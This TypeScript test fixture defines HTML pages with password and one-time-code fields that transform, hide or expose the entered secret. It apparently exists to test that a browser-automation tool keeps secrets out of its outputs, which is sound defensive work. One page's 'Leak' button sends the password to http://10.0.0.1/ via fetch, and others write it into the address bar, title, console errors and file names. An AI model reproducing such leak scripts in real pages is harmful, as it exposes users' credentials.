/** Pages with a field for a secret, which alter, refuse, show and send what is entered. Each has a field named "Field". */

const show = `<button onclick="f.type = f.type === 'password' ? 'text' : 'password'">Show</button>`;
const echo = `<p id="out" role="alert"></p>`;
const onInput = (code: string): string => `<script>f.addEventListener('input', () => { ${code} });</script>`;

/** A page, and the names of the controls that are pressed after the secret was entered. */
export interface SecretPage {
  readonly html: string;
  readonly presses?: readonly RegExp[];
  /** Patterns of the parts of the answers in which the secret would stand: the answers must have them. */
  readonly parts?: readonly RegExp[];
  /** The code of the failure of the step that enters the secret. Default: `VALUE_REFUSED`, or none. */
  readonly failure?: string;
}

const field = (attributes: string, rest = ''): SecretPage => ({
  html: `<title>Page</title><label>Field <input id="f" ${attributes}></label> <button>Other</button> ${rest}`,
});
const shown = (attributes: string, rest: string, ...presses: RegExp[]): SecretPage => ({
  ...field(attributes, rest),
  presses,
});

const BOXES = (attributes: string, first = ''): string =>
  `<title>Code</title>${Array.from({ length: 6 }, (_, nth) => `<input aria-label="${nth === 0 ? 'Field' : `Box ${nth}`}" maxlength="1" style="width:30px" ${nth === 0 ? first : ''} ${attributes} oninput="this.value && this.nextElementSibling?.focus?.()">`).join('')}<button>Other</button>`;

/** The pages by what they do. */
export const SECRET_PAGES: Readonly<Record<string, SecretPage>> = {
  'a password field': field('type=password'),
  'a masked text field with autocomplete=current-password': field('autocomplete=current-password'),
  'a text field with autocomplete=new-password in a section': field(
    'autocomplete="section-a new-password webauthn"',
  ),
  'a telephone field for a one-time code': field('type=tel autocomplete=one-time-code'),
  'a text field that shows dots': field('style="-webkit-text-security: disc"'),
  'an area that shows dots': {
    html: `<title>Page</title><style>textarea{-webkit-text-security:square}</style><label>Field <textarea id="f"></textarea></label><button>Other</button>`,
  },
  'an editor that shows dots': {
    html: `<title>Page</title><div role="textbox" aria-label="Field" contenteditable style="-webkit-text-security:disc;width:200px;height:30px"></div><button>Other</button>`,
  },
  'a password field that is a combobox': field(
    'type=password role=combobox aria-controls=list aria-autocomplete=list',
    '<ul id="list" role="listbox"><li role="option">One</li></ul>',
  ),
  'a password field in a shadow tree': {
    html: `<title>Page</title><x-field></x-field><button>Other</button><script>
      customElements.define('x-field', class extends HTMLElement { connectedCallback() {
        this.attachShadow({ mode: 'open' }).innerHTML = '<label>Field <input type=password></label>';
      } });</script>`,
  },
  'a password field in a frame': {
    html: `<title>Page</title><iframe srcdoc="<label>Field <input type=password></label>"></iframe><button>Other</button>`,
  },
  'a text field that becomes a password field on focus': field('onfocus="this.type = \'password\'"'),
  'a text field that becomes a password field while it is filled': field(
    'oninput="this.type = \'password\'"',
    show,
  ),
  'a field with maxlength': field('type=password maxlength=6'),
  'a field with maxlength that is told': field(
    'type=password maxlength=7',
    echo + onInput(`out.textContent = 'Wrong: ' + f.value`),
  ),
  'a field that keeps digits only': field(
    'type=password',
    echo + onInput(`f.value = f.value.replace(/\\D/g, ''); out.textContent = 'Got ' + f.value`),
  ),
  'a field that writes capitals': field(
    'type=password',
    echo + onInput(`f.value = f.value.toUpperCase(); out.textContent = f.value`),
  ),
  'a field that refuses': field('type=password', onInput(`f.value = 'unchanged'`)),
  'a field that is emptied': field('type=password', onInput(`if (f.value.length > 9) f.value = ''`)),
  'a field that is removed': field(
    'type=password',
    echo + onInput(`if (f.value.length > 9) { out.textContent = 'Took ' + f.value; f.parentNode.remove(); }`),
  ),
  'a field whose focus is stolen by a text field': field(
    'type=password',
    `<label>Search <input id="s"></label>${onInput(`if (f.value.length === 4) s.focus()`)}`,
  ),
  'a field whose focus is stolen by a dialog': field(
    'type=password',
    `<dialog id="d"><button>Accept</button></dialog>${onInput(`if (f.value.length === 5) d.showModal()`)}`,
  ),
  'boxes for a code': { html: BOXES('', 'autocomplete=one-time-code') },
  'boxes for a code that say nothing': { html: BOXES('') },
  'boxes for digits in two groups': {
    html: BOXES('inputmode="numeric"').replace(
      '<input aria-label="Box 3"',
      '<span>-</span><input aria-label="Box 3"',
    ),
  },
  'boxes of passwords': { html: BOXES('type=password') },
  'a password field that is shown': shown('type=password', show, /"Show"/),
  'a field that is swapped on blur': shown(
    'type=password',
    `<script>f.addEventListener('blur', () => { const n = document.createElement('input');
      n.value = f.value; n.setAttribute('aria-label', 'Swapped'); f.parentNode.replaceWith(n); });</script>`,
    /"Other"/,
  ),
  'a field that is swapped for its text on blur': shown(
    'type=password',
    `<script>f.addEventListener('blur', () => f.parentNode.replaceWith('Entered ' + f.value));</script>`,
    /"Other"/,
  ),
  'a page that names a button after it': shown(
    'type=password',
    `<button id="b">Name</button><script>b.onclick = () => { b.textContent = 'Copy ' + f.value; b.title = f.value }</script>`,
    /"Name"/,
  ),
  'a page that puts it in its address and title': shown(
    'type=password',
    `<button id="b">Go</button><script>b.onclick = () => { history.pushState(null, '', '?p=' + encodeURIComponent(f.value) + '#' + f.value); document.title = f.value }</script>`,
    /"Go"/,
  ),
  'a page that opens a dialog about it': shown(
    'type=password',
    `<button id="b">Ask</button><script>b.onclick = () => setTimeout(() => prompt('Is it ' + f.value, f.value))</script>`,
    /"Ask"/,
  ),
  'a form that sends it by GET': {
    html: `<title>Page</title><form action="/sent"><label>Field <input type=password name=p></label><button>Send</button></form>`,
    presses: [/"Send"/],
  },
  'a page that requests a forbidden address with it': shown(
    'type=password',
    `<button id="b">Leak</button><script>b.onclick = () => { fetch('http://10.0.0.1/' + f.value).catch(() => {}); location = 'http://10.0.0.1/?' + encodeURIComponent(f.value) }</script>`,
    /"Leak"/,
  ),
  'a page that downloads a file named after it': shown(
    'type=password',
    `<button id="b">Save</button><script>b.onclick = () => { const a = document.createElement('a');
      a.href = 'data:text/plain,x'; a.download = f.value + '.txt'; a.click(); }</script>`,
    /"Save"/,
  ),
  'a page that writes it in every form of text': shown(
    'type=password',
    `<button id="b">Tell</button><article id="a"></article><script>b.onclick = () => { const v = f.value;
      a.innerHTML = '<h1></h1><p></p><pre></pre><table><tr><td></td></tr></table><a></a><img width=50 height=50 alt="">';
      for (const e of a.querySelectorAll('*')) e.append(v);
      a.querySelector('a').href = '/x?' + encodeURIComponent(v); a.querySelector('img').alt = v;
      const ld = document.createElement('script'); ld.type = 'application/ld+json';
      ld.textContent = JSON.stringify({ '@type': 'Product', name: v, id: v }); document.head.append(ld); }</script>`,
    /"Tell"/,
  ),
  'a page that divides it by markup, and encodes it twice': shown(
    'type=password',
    `<button id="b">Mark</button><p id="p"><b></b><i></i><u></u> <code></code></p><script>b.onclick = () => { const v = f.value; const [one, two, three, code] = p.children;
      one.textContent = v.slice(0, 9); two.textContent = v.slice(9, 16); three.textContent = v.slice(16); code.textContent = encodeURIComponent(encodeURIComponent(v)) }</script>`,
    /"Mark"/,
  ),
  'a disabled field': { ...field('type=password disabled'), failure: 'ACTION_BLOCKED' },
  'a page that cuts it': shown(
    'type=password',
    `<button id="b">Cut</button><p id="p"></p><script>b.onclick = () => { p.textContent = 'You wrote ' + f.value.slice(0, 8) + '…'; b.textContent = '…' + f.value.slice(-7) }</script>`,
    /"Cut"/,
  ),
  'a page that logs it as an error': {
    ...shown(
      'type=password',
      `<button id="b">Log</button><script>b.onclick = () => console.error('Wrong password', f.value, { v: f.value })</script>`,
      /"Log"/,
    ),
    parts: [/"console":\{[^}]*"first":"[^"]/],
  },
  'a page that throws it': {
    ...shown(
      'type=password',
      `<button id="b">Throw</button><script>b.onclick = () => { throw new Error('Wrong password ' + f.value) }</script>`,
      /"Throw"/,
    ),
    parts: [/"console":\{[^}]*"first":"[^"]/],
  },
  'a page that logs it at the end of a long error': {
    ...shown(
      'type=password',
      `<button id="b">Log</button><script>b.onclick = () => console.error('long '.repeat(38) + f.value)</script>`,
      /"Log"/,
    ),
    parts: [/"console":\{[^}]*"first":"[^"]/],
  },
  'a page that requests an address with it that answers late': {
    ...shown(
      'type=password',
      `<button id="b">Send</button><script>b.onclick = () => { const v = encodeURIComponent(f.value); fetch('/slow/' + v).then(r => r.text()).then(t => { b.textContent = t }) }</script>`,
      /"Send"/,
    ),
    parts: [/"requests":\["[^"]*slow/],
  },
  'a page that is busy with it': {
    ...shown(
      'type=password',
      `<button id="b">Check</button><p id="p" aria-busy="false"></p><script>b.onclick = () => { p.setAttribute('aria-busy', 'true'); p.textContent = 'Checking ' + f.value + '…' }</script>`,
      /"Check"/,
    ),
    parts: [/"busy":\["/],
  },
};
